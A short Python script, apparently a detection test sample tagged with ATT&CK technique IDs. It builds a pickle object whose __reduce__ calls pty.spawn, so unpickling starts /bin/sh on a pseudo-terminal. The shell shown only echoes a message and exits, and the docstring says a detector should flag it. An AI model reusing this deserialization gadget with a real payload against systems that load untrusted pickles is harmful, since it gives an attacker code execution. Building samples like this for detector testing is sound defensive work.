# technique: T1059.006 T1059.004 T1203
"""Pickle gadget pty.spawn: unpickling starts a shell on a pseudo-terminal (T1059.004, T1203).

The reduce callable is pty.spawn with an argv list, so loading the data
forks with a new pty and execs /bin/sh. stdin is /dev/null for the
duration so the copy loop ends when the shell exits.

A good detector raises a high alert: unpickling resolves pty.spawn and a
shell starts inside pickle.loads.
"""
import os
import pickle
import pty


class Session:
    def __reduce__(self):
        return (pty.spawn, (["/bin/sh", "-c", "echo pickled pty shell; exit 0"],))


blob = pickle.dumps(Session())
del Session
devnull = os.open(os.devnull, os.O_RDONLY)
saved = os.dup(0)
os.dup2(devnull, 0)
try:
    pickle.loads(blob)
finally:
    os.dup2(saved, 0)
